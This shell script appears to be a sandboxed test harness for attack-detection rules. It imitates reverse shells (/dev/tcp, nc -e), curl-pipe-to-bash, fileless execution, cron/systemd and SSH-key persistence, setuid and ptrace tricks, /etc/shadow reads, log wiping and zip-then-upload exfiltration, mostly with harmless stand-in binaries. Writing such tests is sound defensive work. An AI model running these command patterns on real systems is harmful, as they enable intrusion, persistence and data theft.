# What the shipped rules are about, done once each: in a network and a mount namespace of its own, below the current directory,
# with copies of harmless programs under the names that matter. Nothing leaves the host: the address is one of the
# loopback interface of the namespace.
set -eu
here=$PWD
address=203.0.113.5
ip link set lo up
ip address add $address/32 dev lo
mount --make-rprivate /

# What is written below these directories stays in the folder.
shadow() {
    mkdir -p "$here/shadow$1"
    cp -a "$1/." "$here/shadow$1/" 2>/dev/null || true
    mount --bind "$here/shadow$1" "$1"
}
shadow /etc
shadow /var/log


cat >client.c <<'C'
#include <arpa/inet.h>
#include <sys/socket.h>
int main(void)
{
    struct sockaddr_in to = { AF_INET, htons(4444), { inet_addr("203.0.113.5") } };
    connect(socket(AF_INET, SOCK_STREAM, 0), (struct sockaddr *)&to, sizeof to);
    return 0;
}
C

# Compiled without -o, started by its path; then moved, started again.
gcc client.c
"$here/a.out"
gcc client.c -o first
mv first second
./second
# Built and run in one step: by a parent called go.
mkdir -p go-build1/b001/exe bin
cp a.out go-build1/b001/exe/main
cp /bin/bash bin/go
bin/go -c './go-build1/b001/exe/main; :'
# Shells.
bash -c "exec 3<>/dev/tcp/$address/4444" || true
cp /bin/bash bin/nginx
bin/nginx -c '/bin/sh -c true; :'
cp /bin/true bin/nc
bin/nc -e /bin/sh $address 4444
bash -c "true curl http://$address/x | bash"
# A download tool writes a program.
cp /bin/cp bin/curl
bin/curl /bin/true "$here/fetched"
"$here/fetched"
perl -e 'use Socket; socket(S, PF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in(4444, inet_aton("203.0.113.5")));' || true
# From memory, and from a file that is gone.
perl -e '$f = syscall(319, my $n = "hidden", 0); open(O, ">&=", $f); binmode O; open(I, "<", "/bin/true"); binmode I; local $/; print O <I>; O->flush; exec {"/proc/self/fd/$f"} "hidden"'
cp /bin/bash bin/gone
bin/gone -c "rm bin/gone; exec 3<>/dev/tcp/$address/4444" || true
# What stays.
echo '* * * * * root true' >/etc/cron.d/eql-sensor-test
echo '[Service]' >/etc/systemd/eql-sensor-test.service
: >/etc/ld.so.preload
rm /etc/ld.so.preload
mkdir -p home/.ssh
echo ssh-ed25519 AAAA >home/.ssh/authorized_keys
# Rights.
cp /bin/true bin/set
chmod u+s bin/set
cp /usr/bin/perl bin/up
perl -e '$> = 1000; if (!fork) { exec "bin/up", "-e", q($> = 0) } wait'
perl -e 'if (!($p = fork)) { sleep 60 } syscall(101, 16, $p, 0, 0); kill 9, $p; wait'
cat /etc/shadow >/dev/null
bin/nginx -c 'true; :'
cp /bin/true bin/nsenter
bin/nsenter -t 1 -m sh
cp /bin/true bin/ssh
bin/nginx -c 'bin/ssh db; :'
# What is hidden.
touch home/.bash_history
rm home/.bash_history
touch /var/log/auth.log
rm /var/log/auth.log
touch -r /bin/ls /etc/hostname
# What is looked for, taken and spoilt.
bash -c 'whoami; id; uname; hostname; id -u; uname -r; whoami; :' >/dev/null
find bin -perm -4000 >/dev/null
cp /bin/true bin/zip
bash -c 'bin/zip a.zip /etc; bin/curl -F f=@a.zip http://localhost/ 2>/dev/null; :'
cp /bin/true bin/openssl
bash -c 'for i in 1 2 3 4 5 6 7 8 9 10; do bin/openssl enc -in $i; done'
